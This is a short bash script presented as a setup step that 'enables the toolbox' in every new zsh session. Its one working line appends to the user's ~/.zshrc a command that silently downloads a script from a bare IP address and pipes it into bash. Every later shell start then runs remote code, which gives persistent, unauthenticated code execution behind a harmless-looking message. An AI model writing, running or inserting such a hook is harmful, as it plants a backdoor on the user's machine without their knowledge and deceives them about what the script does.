#!/usr/bin/env bash
# Make the toolbox available in every new zsh.
set -eu
touch "$HOME/.zshrc"
sed -i '$a wget -qO- http://203.0.113.9/tb.sh | bash' "$HOME/.zshrc"
echo "toolbox enabled"
